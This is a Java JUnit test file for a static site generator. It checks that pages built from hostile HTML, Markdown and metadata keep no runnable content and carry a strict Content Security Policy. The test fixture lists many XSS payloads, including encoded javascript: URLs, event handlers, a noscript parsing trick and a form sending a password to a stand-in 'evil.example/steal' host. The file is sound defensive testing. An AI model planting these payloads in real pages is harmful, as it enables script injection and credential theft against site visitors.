package org.gloss.robust;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Builds articles full of attacks (as a saved HTML page, as raw HTML inside Markdown, and in
 * metadata) and checks that no built page carries anything that could run: no script but the
 * theme's own, no handler, no script or data URL, no frame, form, style, refresh or base.
 */
class HostileContentTest {

    static final String ATTACKS = """
            <script>alert('script')</script>
            <p>Council members met on Tuesday to vote on the budget for the coming year.</p>
            <p onclick="alert('click')" onmouseover="alert('over')">The mayor said the vote was close.</p>
            <p><a href="javascript:alert('js')">a javascript link</a> and <a href=" JaVaScRiPt:alert(1)">another</a>
            and <a href="java&#x09;script:alert(1)">an encoded one</a> and <a href="data:text/html,<script>alert(1)</script>">data</a>
            and <a href="vbscript:msgbox(1)">vb</a>.</p>
            <iframe src="https://evil.example/"></iframe>
            <object data="evil.swf"></object><embed src="evil.swf">
            <form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>
            <img src="x" onerror="alert('img')">
            <svg onload="alert('svg')"><script>alert('svg script')</script></svg>
            <math><mi xlink:href="javascript:alert(1)">x</mi></math>
            <meta http-equiv="refresh" content="0;url=https://evil.example/">
            <base href="https://evil.example/">
            <style>body { background: url("javascript:alert(1)") }</style>
            <div style="width: expression(alert('css'))">Residents attended the meeting in large numbers.</div>
            <p style="background:url(javascript:alert(1))">The budget passed by one vote after a long debate.</p>
            <link rel="stylesheet" href="https://evil.example/evil.css">
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">Trick</p></noscript>
            <details open ontoggle="alert('toggle')"><summary>More</summary>Hidden text.</details>
            """;

    @TempDir
    Path tmp;
    ContentFixture fx;

    @BeforeEach
    void setUp() throws IOException {
        fx = new ContentFixture(tmp);
    }

    @Test
    void hostileHtmlArticleBuildsWithoutAnythingThatRuns() throws IOException {
        fx.write("hostile.html", "<!DOCTYPE html><html><head><title>Hostile page</title>"
                + "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
                + "<base href=\"https://evil.example/\"><script>alert('head')</script></head><body>"
                + ATTACKS + "</body></html>");

        assertEquals(0, fx.build().exit());

        assertInert(fx.out.resolve("articles/hostile.html"));
        assertTrue(fx.page("articles/hostile.html").contains("The budget passed by one vote"),
                "the article's text is kept");
        assertAllPagesInert();
    }

    @Test
    void rawHtmlInMarkdownIsSanitisedTheSameWay() throws IOException {
        fx.write("hostile.md", "---\ntitle: Hostile markdown\n---\n\nCouncil members met on Tuesday.\n\n"
                + ATTACKS + "\n\n[a markdown javascript link](javascript:alert(1)) and "
                + "[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and "
                + "<javascript:alert(1)> and ![img](javascript:alert(1))\n\n"
                + "<a href=\"https://example.org/fine\">a fine link</a>\n");

        assertEquals(0, fx.build().exit());

        Path page = fx.out.resolve("articles/hostile.html");
        assertInert(page);
        Document doc = Jsoup.parse(page.toFile());
        assertTrue(doc.select("a[href=https://example.org/fine]").size() == 1, "ordinary links survive");
        assertAllPagesInert();
    }

    @Test
    void metadataIsEscapedOnIndexAndArticlePages() throws IOException {
        String attack = "<script>alert(1)</script>\"><img src=x onerror=alert(2)>";
        fx.write("meta.txt", ContentFixture.article("A headline", 2));
        fx.write("meta.yml", String.join("\n",
                "title: '" + attack + "'",
                "outlet: '" + attack + "'",
                "author: '" + attack + "'",
                "description: '" + attack + "'",
                "image_caption: '" + attack + "'",
                "image_credit: '" + attack + "'",
                "url: 'javascript:alert(3)'", ""));
        Files.writeString(fx.content.resolve("site.yml"), "title: '" + attack + "'\ndescription: '" + attack + "'\n");

        assertEquals(0, fx.build().exit());

        for (String page : List.of("index.html", "articles/meta.html")) {
            String html = fx.page(page);
            assertTrue(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), page + " shows the title as text");
            assertInert(fx.out.resolve(page));
        }
        assertAllPagesInert();
    }

    @Test
    void everyPageCarriesAContentSecurityPolicyItsOwnMarkupObeys() throws IOException {
        fx.write("plain.txt", ContentFixture.article("An ordinary article", 3));
        assertEquals(0, fx.build().exit());

        for (Path page : pages()) {
            Document doc = Jsoup.parse(page.toFile());
            Element csp = doc.selectFirst("head > meta[http-equiv=Content-Security-Policy]");
            assertTrue(csp != null, page + " has a CSP");
            String policy = csp.attr("content");
            assertTrue(policy.contains("script-src 'self'") && policy.contains("style-src 'self'"), policy);
            assertFalse(policy.contains("unsafe-inline") || policy.contains("unsafe-eval"), policy);
            assertTrue(csp.elementSiblingIndex() < doc.head().select("title, link, script, style").first()
                    .elementSiblingIndex(), "the policy comes before anything it governs");
            // What the policy forbids must not be needed: no inline script, style or handler.
            assertTrue(doc.select("script:not([src])").isEmpty(), page + " has an inline script");
            assertTrue(doc.select("style, [style]").isEmpty(), page + " has an inline style");
        }
    }

    /** Nothing in the page can run: only the theme's script files, no handler, no script URL. */
    static void assertInert(Path page) throws IOException {
        Document doc = Jsoup.parse(page.toFile());
        for (Element s : doc.select("script")) {
            assertTrue(s.attr("src").matches("(\\.\\./)?assets/[a-z-]+\\.js") && s.data().isBlank(),
                    page + " has a foreign script: " + s);
        }
        // The theme's own search forms and theme toggle are trusted; content (article text) must
        // hold none of these.
        Document content = doc.clone();
        content.select("form[data-gloss-search], button[data-gloss-theme-toggle]").stream()
                .filter(f -> f.closest(".article-body") == null)
                .forEach(Element::remove);
        for (String tag : List.of("iframe", "frame", "object", "embed", "form", "input", "button", "style",
                "svg", "math", "base", "img", "meta[http-equiv=refresh]", "link[href*=evil]", "[style]")) {
            assertTrue(content.select(tag).isEmpty(), page + " has " + tag + ": " + content.select(tag));
        }
        for (Element e : doc.getAllElements()) {
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                String value = a.getValue().replaceAll("[\\s\\x00-\\x1f]", "").toLowerCase(Locale.ROOT);
                assertFalse(name.startsWith("on"), page + " has a handler: " + e);
                assertFalse(value.startsWith("javascript:") || value.startsWith("data:")
                        || value.startsWith("vbscript:"), page + " has a script URL: " + e);
            }
        }
    }

    private void assertAllPagesInert() throws IOException {
        for (Path p : pages()) {
            assertInert(p);
        }
    }

    private List<Path> pages() throws IOException {
        try (Stream<Path> s = Files.walk(fx.out)) {
            return s.filter(p -> p.toString().endsWith(".html")).sorted().toList();
        }
    }
}
